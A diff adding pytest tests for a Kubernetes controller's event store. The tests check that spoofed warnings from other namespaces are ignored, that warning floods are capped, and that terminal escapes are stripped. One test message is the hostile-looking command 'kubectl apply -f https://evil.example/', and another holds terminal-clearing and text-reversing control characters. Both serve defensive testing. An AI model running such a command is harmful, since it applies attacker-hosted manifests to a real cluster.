@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import time
+from datetime import UTC, datetime
 from typing import Any
 
 import pytest
 
 from hermetic.api.configuration import Configuration
 from hermetic.kinds import DEPLOYMENT, POD, SERVICE
+from hermetic.kube.projections import _aware
 from hermetic.kube.relist import Watched, relist
-from hermetic.kube.store import Store
+from hermetic.kube.store import REMEMBERED_WARNINGS, Store
 from tests.controller.cluster_in_memory import ClusterInMemory
 from tests.controller.virtual_time import virtually
 from tests.scenarios import a_baked_model
@@ -17,6 +20,7 @@ from tests.scenarios import a_baked_model
 Manifest = dict[str, Any]
 
 LLAMA = ("team-a", "llama")
+WHERE = {"namespace": "team-a", "name": "llama"}
 LABELS = {"app.kubernetes.io/managed-by": "hermetic", "hermetic.dev/modeldeployment": "llama"}
 
 OURS = {"kind": "ModelDeployment", "name": "llama", "uid": "uid-of-llama", "controller": True}
@@ -165,7 +169,11 @@ def test_a_relist_keeps_what_is_younger_than_itself(store: Store) -> None:
 
 
 def test_a_warning_that_overtakes_its_pod_is_kept_for_it(store: Store) -> None:
-    about = {"involvedObject": {"kind": "Pod", "uid": "uid-1"}, "reason": "FailedMount", "message": "no such share"}
+    about = {
+        "involvedObject": {"kind": "Pod", **WHERE, "uid": "uid-1"},
+        "reason": "FailedMount",
+        "message": "no such share",
+    }
     event = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "e", "uid": "e", "resourceVersion": "3"}}
 
     assert store.put(event | about) == frozenset()
@@ -176,6 +184,91 @@ def test_a_warning_that_overtakes_its_pod_is_kept_for_it(store: Store) -> None:
     assert world.warnings["uid-1"].message == "no such share"
 
 
+def warning(number: int, message: str = "no such share", **about: str) -> dict[str, Any]:
+    """A warning Event about the pod, or about something else."""
+    metadata = {"name": f"e-{number}", "uid": f"e-{number}", "resourceVersion": str(number)}
+    subject = {"kind": "Pod", **WHERE, "uid": "uid-1", **about}
+    return {
+        "apiVersion": "v1",
+        "kind": "Event",
+        "metadata": metadata,
+        "involvedObject": subject,
+        "reason": "FailedMount",
+        "message": message,
+    }
+
+
+def warned(store: Store) -> str:
+    """What the newest warning about the pod says; "" without one."""
+    world = store.snapshot(LLAMA)
+    assert world is not None
+    return world.warnings["uid-1"].message if "uid-1" in world.warnings else ""
+
+
+@pytest.mark.parametrize("other", [{"namespace": "team-b"}, {"name": "another"}, {"namespace": ""}])
+def test_a_warning_that_names_the_uid_of_a_pod_of_others_counts_for_nothing(
+    store: Store, other: dict[str, str]
+) -> None:
+    store.put(a_child(POD.kind, version=1))
+    store.put(warning(2))
+    assert store.put(warning(3, "kubectl apply -f https://evil.example/", **other)) == frozenset()
+    assert warned(store) == "no such share"
+
+
+def test_a_flood_of_large_warnings_is_cut_and_displaces_none_about_a_pod_of_ours(store: Store) -> None:
+    store.put(a_child(POD.kind, version=1))
+    store.put(warning(2))
+    for number in range(3, REMEMBERED_WARNINGS + 1000):
+        store.put(warning(number, "x" * 100_000, namespace="team-b", name=f"p-{number}", uid=f"u-{number}"))
+    assert warned(store) == "no such share"
+    held = sum(len(one.message) + len(one.reason) for _, one in store._warnings.values())
+    assert held < 6_000_000
+
+
+def test_a_warning_is_one_line_without_what_a_terminal_obeys(store: Store) -> None:
+    store.put(a_child(POD.kind, version=1))
+    store.put(warning(2, "no share\nready  yes  Serving\x1b[2J \u202e"))
+    assert warned(store) == "no share ready yes Serving\ufffd[2J \ufffd"
+
+
 def test_a_strangers_object_with_our_labels_is_seen_so_that_it_is_not_overwritten(store: Store) -> None:
     assert store.put(a_child(SERVICE.kind, version=4)) == {LLAMA}
     assert version_of(store, SERVICE.kind) == "4"
+
+
+def test_a_change_of_a_node_reads_no_deployment_that_waits(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
+    for number in range(50):
+        store.put(the_model(f"m{number}", address="10.0.0.7", version=number + 10))
+    ready = the_model("ready", version=100)
+    ready["status"] = {"conditions": [{"type": "Ready", "status": "True"}]}
+    store.put(ready)
+
+    def read(_: object) -> None:
+        raise AssertionError("a ModelDeployment was read")
+
+    monkeypatch.setattr("hermetic.kube.store.json.loads", read)
+    node = {"kind": "Node", "metadata": {"name": "n", "uid": "n", "resourceVersion": "200"}, "status": {}}
+    waiting = store.put(node)
+    assert waiting == {LLAMA, *(("team-a", f"m{number}") for number in range(50))}
+    assert store.drop({**node, "metadata": {**node["metadata"], "resourceVersion": "201"}}) == waiting
+
+
+def test_who_asks_for_an_address_follows_the_spec(store: Store) -> None:
+    first, second = the_model("a", address="10.0.0.7", version=10), the_model("b", address="10.0.0.7", version=11)
+    store.put(first)
+    assert store.put(second) == {("team-a", "a"), ("team-a", "b")}
+    assert store.put(the_model("b", address="10.0.0.8", version=12)) == {("team-a", "a"), ("team-a", "b")}
+    assert store.put(the_model("a", address="10.0.0.7", version=13)) == {("team-a", "a")}
+    store.drop(the_model("a", address="10.0.0.7", version=14))
+    assert store.put(the_model("b", address="10.0.0.7", version=15)) == {("team-a", "b")}
+
+
+@pytest.mark.parametrize("zone", ["America/New_York", "Asia/Kolkata"])
+def test_a_moment_without_a_zone_is_one_of_utc(zone: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TZ", zone)
+    time.tzset()
+    try:
+        assert _aware(datetime(2026, 1, 1, 12)) == datetime(2026, 1, 1, 12, tzinfo=UTC)  # noqa: DTZ001 - without one
+    finally:
+        monkeypatch.undo()
+        time.tzset()
